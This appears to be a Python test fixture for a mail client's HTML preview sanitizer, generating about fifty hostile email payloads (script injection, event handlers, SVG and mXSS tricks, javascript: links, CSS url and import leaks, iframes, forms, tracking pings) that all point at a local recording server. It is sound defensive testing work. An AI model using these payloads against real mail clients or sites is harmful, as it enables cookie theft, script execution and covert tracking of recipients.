"""Hostile mail HTML: each entry tries to run script, fetch something, submit something or escape the
preview; every URL in it points at `base` (a recording server in the browser test), so any request that
arrives there is a leak. Script payloads would set the title or a cookie to "pwned".

The only URLs a reader may fetch, after "load remote images", are the plain `<img src>` ones under
`{base}/img/`; everything else must never be requested.
"""

from __future__ import annotations

PWNED = "pwned"


def corpus(base: str) -> dict[str, str]:
    b = base.rstrip("/")
    js = f"document.title='{PWNED}';document.cookie='{PWNED}=1'"
    return {
        "script": f"<script>{js};new Image().src='{b}/script-ran'</script>",
        "script_src": f'<script src="{b}/script.js"></script>',
        "onerror": f'<img src="x" onerror="{js};fetch(\'{b}/onerror\')">',
        "onload_body": f'<body onload="{js}">body</body>',
        "onclick": f'<p onclick="{js}" onmouseover="{js}">hover</p>',
        "svg_onload": f'<svg onload="{js}"><image href="{b}/svg-image" xlink:href="{b}/svg-xlink"/></svg>',
        "svg_script": f"<svg><script>{js}</script></svg>",
        "svg_foreign_object": f'<svg><foreignObject><img src="{b}/foreign-object"></foreignObject></svg>',
        "svg_use": f'<svg><use href="{b}/use.svg#x" xlink:href="{b}/use-xlink.svg#x"/></svg>',
        "svg_animate": (f'<svg><a><animate attributeName="href" to="javascript:{js}"/>'
                        "<text>t</text></a></svg>"),
        "math_mxss": (f'<math><mtext><table><mglyph><style><img src="{b}/math" onerror="{js}">'
                      "</style></mglyph></table></mtext></math>"),
        "noscript_mxss": f'<noscript><p title="</noscript><img src={b}/img/noscript.png onerror={js}>">',
        "javascript_link": f'<a href="javascript:{js}">js link</a>',
        "javascript_entities": "<a href=\"jav&#x09;ascript&colon;document.title='pwned'\">entity link</a>",
        "vbscript_link": '<a href="vbscript:msgbox(1)">vb</a>',
        "data_link": ("<a href=\"data:text/html,&lt;script&gt;document.title='pwned'&lt;/script&gt;\">"
                      "data</a>"),
        "data_svg_image": "<img src=\"data:image/svg+xml,&lt;svg onload='document.title=1'&gt;\">",
        "relative_image": '<img src="/logout"><img src="//evil-host.invalid/x">',
        "css_url": f'<div style="background-image:url({b}/css-url)">css</div>',
        "css_url_escaped": f'<div style="background:u\\72l({b}/css-escaped)">esc</div>',
        "css_url_comment": f'<p style="background:url/**/({b}/css-comment)">comment</p>',
        "css_import_attr": f"<p style=\"@import '{b}/import-attr.css'\">import</p>",
        "css_import_block": f'<style>@import url("{b}/import.css");</style>',
        "css_block_url": f"<style>body{{background:url({b}/style-block)}}</style>",
        "font_face": f"<style>@font-face{{font-family:x;src:url({b}/font.woff)}}</style>",
        "css_expression": f"<div style=\"width:expression({js})\">expr</div>",
        "css_image_set": f"<div style=\"background-image:image-set('{b}/image-set.png' 1x)\">set</div>",
        "css_cursor": f'<p style="cursor:url({b}/cursor.cur),auto">cursor</p>',
        "css_list_image": f'<ul style="list-style-image:url({b}/list.png)"><li>item</li></ul>',
        "css_behavior": f'<p style="behavior:url({b}/behavior.htc);-moz-binding:url({b}/binding)">b</p>',
        "css_var": f'<p style="--x:url({b}/var);background:var(--x)">var</p>',
        "meta_refresh": f'<meta http-equiv="refresh" content="0;url={b}/refresh">',
        "base_href": f'<base href="{b}/base/"><a href="relative">rel</a><img src="relative.png">',
        "link_prefetch": (f'<link rel="prefetch" href="{b}/prefetch">'
                          f'<link rel="stylesheet" href="{b}/sheet.css">'
                          f'<link rel="preload" as="image" href="{b}/preload">'
                          f'<link rel="dns-prefetch" href="{b}">'),
        "form": (f'<form action="{b}/form" method="post"><input name="q" value="x">'
                 f'<button formaction="{b}/formaction">Send</button><input type="submit"></form>'),
        "input_image": f'<input type="image" src="{b}/input-image">',
        "object": f'<object data="{b}/object"></object><applet code="x" codebase="{b}/applet"></applet>',
        "embed": f'<embed src="{b}/embed">',
        "iframe": f'<iframe src="{b}/iframe"></iframe><iframe srcdoc="<script>{js}</script>"></iframe>',
        "frameset": f'<frameset><frame src="{b}/frame"></frameset>',
        "srcset": (f'<img src="{b}/img/srcset-src.png" srcset="{b}/srcset.png 2x, {b}/srcset-w.png 640w"'
                   ' alt="s">'),
        "picture": (f'<picture><source srcset="{b}/picture-source">'
                    '<img src="cid:missing@x" alt="p"></picture>'),
        "background_attr": (f'<table background="{b}/table-bg"><tr><td background="{b}/td-bg">cell</td></tr>'
                            f'</table>'),
        "video": f'<video poster="{b}/poster" autoplay><source src="{b}/video"></video>',
        "audio": f'<audio src="{b}/audio" autoplay></audio><bgsound src="{b}/bgsound">',
        "ping": f'<a href="https://example.test/" ping="{b}/ping">pinged link</a>',
        "lowsrc_dynsrc": f'<img lowsrc="{b}/lowsrc" dynsrc="{b}/dynsrc" src="{b}/img/dyn.png">',
        "remote_image": f'<img src="{b}/img/remote.png" width="20" height="10" alt="remote">',
        "import_map": f'<script type="importmap">{{"imports":{{"x":"{b}/importmap"}}}}</script>',
        "template": f'<template><img src="{b}/template"></template>',
        "object_param": f'<object><param name="movie" value="{b}/param"></object>',
    }


def document(base: str) -> str:
    """Every corpus entry in one message body, each in its own paragraph, with a readable marker."""
    parts = [f"<div><b>{name}</b>: {html}</div>" for name, html in corpus(base).items()]
    return ("<!doctype html><html><head><title>hostile</title></head><body>"
            "<p>fwdmail hostile preview</p>" + "\n".join(parts) + "</body></html>")
